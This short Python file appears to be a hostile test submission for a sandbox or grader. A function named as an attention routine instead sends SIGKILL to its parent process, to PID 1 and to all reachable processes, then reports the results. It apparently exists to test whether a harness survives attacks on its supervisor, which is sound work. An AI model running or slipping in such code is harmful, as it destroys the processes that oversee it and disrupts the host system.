"""Tries to kill the process that supervises it (and every process it can see)."""
import os
import signal


def scaled_dot_product_attention(q, k, v, mask=None):
    results = []
    for pid in (os.getppid(), 1, -1):
        try:
            os.kill(pid, signal.SIGKILL)
            results.append(f"killed {pid}")
        except OSError as exc:
            results.append(f"{pid}: {exc.strerror}")
    raise RuntimeError("KILL=" + repr(results))
